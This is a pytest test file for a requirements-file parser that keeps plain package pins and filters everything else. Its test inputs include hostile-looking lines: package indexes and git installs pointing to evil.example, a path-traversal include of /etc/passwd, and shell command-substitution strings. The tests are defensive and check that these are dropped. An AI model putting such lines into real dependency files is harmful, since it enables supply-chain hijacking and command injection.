"""Requirement files: what is asked of an index is kept, all else is not."""

import pytest

from journeyman.judge.environment.requirement_files import project_name, read_requirements

PYPROJECT = b"""
[project]
name = "My.Thing"
dependencies = ["six>=1", "my-thing-core"]
[project.optional-dependencies]
test = ["pytest>=8"]
docs = ["sphinx"]
"""


def kept(text: str, **more: bytes) -> list[str]:
    files = {"requirements.txt": text.encode(), "pyproject.toml": PYPROJECT, **more}
    read = read_requirements(("requirements.txt",), files, own_name="my_thing")
    return read.files["requirements.txt"].splitlines()


@pytest.mark.parametrize(
    ("line", "expected"),
    [
        ("six==1.17.0", ["six==1.17.0"]),
        ("six==1.17.0  # why", ["six==1.17.0"]),
        (
            "six==1.17.0 \\\n    --hash=sha256:ab \\\n    --hash=sha256:cd",
            ["six==1.17.0      --hash=sha256:ab      --hash=sha256:cd"],
        ),
        ("# nothing\n\n", []),
        ("My-Thing==2.0", []),
        ("my.thing[extra]>=1", []),
        ("--index-url https://evil.example/simple", []),
        ("--extra-index-url=https://evil.example/simple", []),
        ("--trusted-host evil.example", []),
        ("--find-links /etc", []),
        ("-e git+https://evil.example/x.git#egg=x", []),
        ("x @ git+https://evil.example/x.git", []),
        ("-e ../elsewhere", []),
        ("-e .", ["six>=1", "my-thing-core"]),
        (".[test]", ["six>=1", "my-thing-core", "pytest>=8"]),
        ("-e .[test,docs]", ["six>=1", "my-thing-core", "pytest>=8", "sphinx"]),
        ("-r missing.txt", []),
        ("-r ../../etc/passwd", []),
        ("$(touch x)", []),
        ("x.whl ; `touch x`", ["x.whl ; `touch x`"]),
    ],
)
def test_lines(line: str, expected: list[str]) -> None:
    assert kept(line) == expected


def test_included_files_come_along_and_lead_only_to_one_another() -> None:
    files = {
        "requirements/test.txt": b"-r base.txt\n-c ../constraints.txt\npytest==9.0\n",
        "requirements/base.txt": b"-r test.txt\nsix==1.17.0\n",
        "constraints.txt": b"six<2\n",
    }
    read = read_requirements(("requirements/test.txt",), files, own_name="")
    assert set(read.files) == set(files)
    assert read.names == {"pytest", "six"}
    assert read.notes == []


def test_what_was_left_out_is_said() -> None:
    read = read_requirements(("r.txt",), {"r.txt": b"-r gone.txt\nx @ git+https://host.example/x\n"}, own_name="")
    assert [note.partition(":")[0] for note in read.notes] == ["r.txt", "r.txt"]


@pytest.mark.parametrize(
    ("text", "pinned", "hashed"),
    [
        ("six==1.17.0", True, False),
        ("six==1.17.0 ; python_version > '3'", True, False),
        ("six==1.17.0 --hash=sha256:ab", True, True),
        ("six===1.17.0", True, False),
        ("six", False, False),
        ("six>=1", False, False),
        ("six==1.*", False, False),
        ("six==1.17.0\npluggy", False, False),
    ],
)
def test_it_is_known_whether_the_same_files_make_the_same_environment(text: str, pinned: bool, hashed: bool) -> None:
    read = read_requirements(("r.txt",), {"r.txt": text.encode()}, own_name="")
    assert (read.pinned, read.hashed) == (pinned, hashed)


@pytest.mark.parametrize(
    ("files", "name"),
    [
        ({"pyproject.toml": PYPROJECT}, "My.Thing"),
        ({"pyproject.toml": b'[tool.poetry]\nname = "poem"\n'}, "poem"),
        ({"setup.cfg": b"[metadata]\nversion = 1\nname = old\n"}, "old"),
        ({"setup.cfg": b"[flake8]\nname = no\n"}, ""),
        ({"pyproject.toml": b"not toml ="}, ""),
        ({}, ""),
    ],
)
def test_the_projects_own_name_is_found(files: dict[str, bytes], name: str) -> None:
    assert project_name(files, "") == name
